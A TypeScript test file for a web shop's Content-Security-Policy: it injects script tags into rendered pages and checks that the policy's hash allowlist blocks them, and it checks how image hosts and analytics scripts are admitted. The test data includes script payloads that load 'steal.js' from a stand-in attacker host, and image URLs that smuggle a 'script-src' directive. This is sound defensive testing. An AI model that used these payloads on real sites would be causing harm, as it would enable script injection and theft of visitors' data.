import { createHash } from 'node:crypto'
import { Hono } from 'hono'
import { beforeEach, describe, expect, test } from 'vitest'
import type { ProductId } from '#store/ids.ts'
import { insertProduct } from '#test/factories.ts'
import { setUpHarness } from '#test/harness.ts'
import type { Env } from '../dependencies.ts'
import { createRenderCache } from '../page-cache/render-cache.ts'
import { createContentSecurityPolicy } from './content-security-policy.ts'
import { createPageHandler } from './page-handler.ts'
import { createBuiltPages, type PageSource } from './page-source.ts'

const publicUrl = 'http://localhost:3000'
const injected = [
  '<script>steal(1)</script>',
  '<script type="module" async="">import "//evil.example/steal.js"</script>',
  '<link rel="modulepreload" href="//evil.example/steal.js"/>',
  '<script nonce="">steal(2)</script>',
  '<script>steal(3)//</script>',
]
const marker = 'corduroy-coat-marker'

/** Renders the marker unescaped, as a page with a bug would render a product's title. */
function injectInto({ load, ...source }: PageSource): PageSource {
  return {
    ...source,
    async load(language) {
      const modules = await load(language)
      const render = modules.build.entry.module.default
      const module = {
        ...modules.build.entry.module,
        default: async (...parameters: Parameters<typeof render>) => {
          const page = await render(...parameters)
          const html = (await page.text()).replaceAll(`>${marker}<`, () => `>${injected.join('')}<`)
          return new Response(html, page)
        },
      }
      return { ...modules, build: { ...modules.build, entry: { module } } }
    },
  }
}

interface Page {
  html: string
  policy: string
}

const harness = setUpHarness()
let product: ProductId
let renderPage: (path: string) => Promise<Response>
beforeEach(async () => {
  product = await insertProduct(harness.db, { title: marker })
  const handlePage = createPageHandler(harness.dependencies, injectInto(await createBuiltPages()))
  const app = new Hono<Env>().all('*', handlePage)
  renderPage = async path => app.request(new URL(path, publicUrl))
})

async function getUncached(path: string): Promise<Page> {
  const response = await renderPage(path)
  return { html: await response.text(), policy: response.headers.get('content-security-policy') ?? '' }
}

async function getCached(path: string): Promise<Page> {
  const cache = createRenderCache({
    render: request => renderPage(new URL(request.url).pathname),
    publicUrl,
    isDatabaseAvailable: () => true,
    now: () => 0,
  })
  const page = await cache.render(path)
  if (page instanceof Response) throw new Error(`${path} is not cached`)
  const { body, headers } = await page.getVariant('identity')
  return { html: body.toString(), policy: headers[headers.indexOf('content-security-policy') + 1] ?? '' }
}

const getSources = (policy: string, directive: string) =>
  new RegExp(`(?:^|; )${directive} ([^;]*)`).exec(policy)?.[1]?.split(' ') ?? []

/** The executable inline scripts of a page and whether its policy lets a browser run them. */
function listInlineScripts({ html, policy }: Page): { code: string; isAllowed: boolean }[] {
  const sources = getSources(policy, 'script-src')
  return Array.from(html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g))
    .filter(([, attributes = '']) => !/ src=|ld\+json/.test(attributes))
    .map(([, , code = '']) => {
      const hash = createHash('sha256').update(code).digest('base64')
      return { code, isAllowed: sources.includes(`'sha256-${hash}'`) }
    })
}

describe.each([
  ['an uncached page', getUncached],
  ['a cached page', getCached],
])('%s', (_, getPage) => {
  test.each(['/shop', () => `/product/${product}`])(
    'runs what the framework emits and no injected script',
    async path => {
      const page = await getPage(typeof path === 'string' ? path : path())
      for (const markup of injected) expect(page.html).toContain(markup)
      const scripts = listInlineScripts(page)
      const foreign = scripts.filter(({ code }) => /^(steal|import "\/\/evil)/.test(code))
      expect(foreign.map(({ isAllowed }) => isAllowed)).toEqual([false, false, false, false])
      const own = scripts.filter(script => !foreign.includes(script))
      expect(own.length).toBeGreaterThan(3)
      for (const { code, isAllowed } of own) {
        expect(isAllowed).toBe(true)
        expect(code).not.toContain('evil.example')
      }
      expect(getSources(page.policy, 'script-src').join(' ')).not.toMatch(/unsafe|https?:|\*/)
    },
  )
})

const hashOfFirst = `'sha256-${createHash('sha256').update('first()').digest('base64')}'`

test.each([
  [undefined, `script-src 'self' ${hashOfFirst}; connect-src 'self'`],
  [
    'https://stats.example',
    `script-src 'self' ${hashOfFirst} https://stats.example; connect-src 'self' https://stats.example`,
  ],
])('allows the shop alone, inline styles and previews of photos, and the analytics script %s', (origin, scripts) => {
  expect(
    createContentSecurityPolicy({
      inlineScripts: ['first()'],
      analyticsOrigin: origin,
      imageUrls: [undefined, '/me.webp'],
    }),
  ).toBe(
    `default-src 'self'; ${scripts}; style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; ` +
      "object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'",
  )
})

describe('photos of other hosts', () => {
  const getImageSources = (imageUrls: string[]) =>
    getSources(
      createContentSecurityPolicy({ inlineScripts: [], analyticsOrigin: undefined, imageUrls }),
      'img-src',
    ).slice(3)

  test.each([
    ['https://cdn.example/a.jpg', ['https://cdn.example']],
    ['http://127.0.0.1:9000', ['http://127.0.0.1:9000']],
    ['https://fotos.bücher.example/a.jpg', ['https://fotos.xn--bcher-kva.example']],
    ['https://key:secret@photos.example?x=1', ['https://photos.example']],
    ['https://[2001:db8::1]:9000', ['https://[2001:db8::1]:9000']],
    ["https://a;script-src 'unsafe-inline'/a.jpg", []],
    ["https://a.example;script-src'unsafe-inline'/x", []],
    ['https://a,b/a.jpg', []],
    ['https://*/a.jpg', []],
    ['https:', []],
    ['javascript://x', []],
    ['data:image/png;base64,AA', []],
    ['/product-images/a.webp', []],
  ])('%s: %j', (url, sources) => expect(getImageSources([url, url])).toEqual(sources))

  test('a page names the bucket and the portraits of the settings, and no others', async () => {
    const { photos, settings } = harness.dependencies
    const { founders, ...current } = settings.current()
    const cto = { ...founders.cto, portrait: 'https://portraits.example/cto.jpg' }
    const dependencies = {
      ...harness.dependencies,
      photos: { ...photos, getUrl: (key: string) => `https://bucket.example/${key}` },
      settings: { ...settings, current: () => ({ ...current, founders: { ...founders, cto } }) },
    }
    const handlePage = createPageHandler(dependencies, await createBuiltPages())
    const response = await new Hono<Env>().all('*', handlePage).request(new URL('/shop', publicUrl))
    expect(getSources(response.headers.get('content-security-policy') ?? '', 'img-src')).toEqual([
      ...["'self'", 'data:', 'blob:'],
      ...['https://bucket.example', 'https://portraits.example'],
    ])
  })
})

describe('with an analytics script', () => {
  beforeEach(async () => {
    const dependencies = {
      ...harness.dependencies,
      store: { ...harness.store, analyticsSrc: 'https://stats.example/script.js' },
    }
    const handlePage = createPageHandler(dependencies, await createBuiltPages())
    const app = new Hono<Env>().all('*', handlePage)
    renderPage = async path => app.request(new URL(path, publicUrl))
  })

  test.each(['/', '/shop', '/past-sales', '/saved', '/cart'])('%s loads it', async path => {
    const { html, policy } = await getUncached(path)
    expect(getSources(policy, 'script-src')).toContain('https://stats.example')
    expect(getSources(policy, 'connect-src')).toContain('https://stats.example')
    expect(html).toContain('https://stats.example/script.js')
  })

  // Paths are matched without regard to case and with escapes decoded.
  test.each([
    '/thankyou?session_id=cs_test_abcdefghij',
    '/checkout',
    '/login',
    '/signup',
    '/account',
    '/Thankyou/',
    '/%74hankyou',
    '/admin/orders',
    '/no-such-page',
  ])('%s neither loads it nor allows it', async path => {
    const response = await renderPage(path)
    expect(`${await response.text()} ${response.headers.get('content-security-policy')}`).not.toContain('stats.example')
  })
})
